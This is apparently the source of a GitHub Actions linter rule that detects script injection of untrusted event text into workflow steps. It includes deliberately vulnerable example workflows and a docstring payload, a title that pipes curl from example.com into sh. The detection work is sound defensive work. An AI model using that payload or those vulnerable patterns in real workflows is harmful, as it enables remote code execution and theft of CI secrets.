from collections.abc import Iterator

from aurora_devops import Finding, bad, good, policy
from aurora_devops.kinds.github import Expression
from aurora_devops.kinds.github.untrusted import flowing, is_code, is_written_outside, sources

from ._edits import in_environment

_GUARDED = """\
on: pull_request_target
jobs:
  author:
    if: {}
    runs-on: ubuntu-24.04
    steps:
      - run: make check
  greet:
    needs: author
    runs-on: ubuntu-24.04
    steps:
      - run: {}
"""


@policy(
    "GHA006",
    severity="error",
    category="security",
    equivalents={"zizmor": "template-injection", "actionlint": "expression", "checkov": "CKV_GHA_2"},
    examples=[
        bad(
            """\
            on: issues
            jobs:
              greet:
                runs-on: ubuntu-24.04
                steps:
                  - run: echo "New ${{ «github.event.issue.title» }}"
            """,
            fixed="""\
            on: issues
            jobs:
              greet:
                runs-on: ubuntu-24.04
                steps:
                  - run: echo "New ${GITHUB_EVENT_ISSUE_TITLE}"
                    env:
                      GITHUB_EVENT_ISSUE_TITLE: ${{ github.event.issue.title }}
            """,
        ),
        bad(
            """\
            on: pull_request_target
            jobs:
              greet:
                runs-on: ubuntu-24.04
                steps:
                  - uses: actions/github-script@v7
                    with:
                      script: console.log('${{ «github.event.pull_request.title» }}')
            """
        ),
        good(
            """\
            on: issues
            jobs:
              greet:
                runs-on: ubuntu-24.04
                steps:
                  - run: echo "New $TITLE"
                    env:
                      TITLE: ${{ github.event.issue.title }}
            """,
            because="the shell reads the title from a variable and does not run it",
        ),
        good(
            """\
            on: pull_request
            jobs:
              test:
                runs-on: ubuntu-24.04
                steps:
                  - run: echo "${{ contains(github.event.pull_request.title, '[skip]') }}"
                  - run: git diff "${{ github.event.pull_request.base.sha }}"
            """,
            because="a boolean and a hash cannot contain code",
        ),
        good(
            """\
            on: release
            jobs:
              note:
                runs-on: ubuntu-24.04
                steps:
                  - uses: actions/github-script@v7
                    with:
                      script: console.log(${{ toJSON(github.event) }})
            """,
            because="only an account with write access publishes a release",
        ),
        *(
            good(
                _GUARDED.format(condition, "echo ${{ github.head_ref }}"),
                because="the author of the pull request is trusted",
            )
            for condition in (
                "github.event.pull_request.user.login == 'dependabot[bot]'",
                "github.event.pull_request.head.repo.full_name == github.repository",
                'contains(fromJSON(\'["OWNER", "MEMBER"]\'), github.event.pull_request.author_association)',
            )
        ),
        *(
            bad(_GUARDED.format(condition, "echo ${{ «github.event.pull_request.title» }}"))
            for condition in (
                "github.event.pull_request.merged",
                "github.event.label.name == 'ok-to-test'",
                "github.event.pull_request.user.login == 'dependabot[bot]' || github.event.action == 'opened'",
                "github.event.pull_request.user.login != 'dependabot[bot]'",
            )
        ),
        bad(
            _GUARDED.format(
                "github.event.pull_request.user.login == 'dependabot[bot]'",
                "echo ${{ «github.event.review.body» }}",
            ).replace("pull_request_target", "pull_request_review")
        ),
    ],
)
def script_injection(expression: Expression) -> Iterator[Finding]:
    """Text that anyone can set is expanded into a script before it runs.

    A title such as `"; curl https://example.com/x | sh; "` becomes part of the script and runs with the token and the
    secrets of the job.
    Pass the text in an environment variable and quote that.
    What the author of a pull request sets is not reported if `if` limits the step, the job or a job that it needs to
    a named author, to members, or to branches of the repository itself; `input-in-script` reports it then.
    The fix does so, but chooses the name of the variable and may change quoting, so it is not applied by default.

    https://docs.github.com/en/actions/concepts/security/script-injections
    """
    if not is_code(expression) or expression.tree is None:
        return
    for way, tree in flowing(expression.tree):
        for source in sources(expression, way):
            if is_written_outside(source, expression):
                name = ".".join(source)
                message = f"'{name}' is set by anyone and expanded into the script; pass it in an environment variable"
                fix = in_environment(expression) if tree == expression.tree else None
                yield Finding(at=expression.part(tree.start, tree.end), message=message, fix=fix)
                break
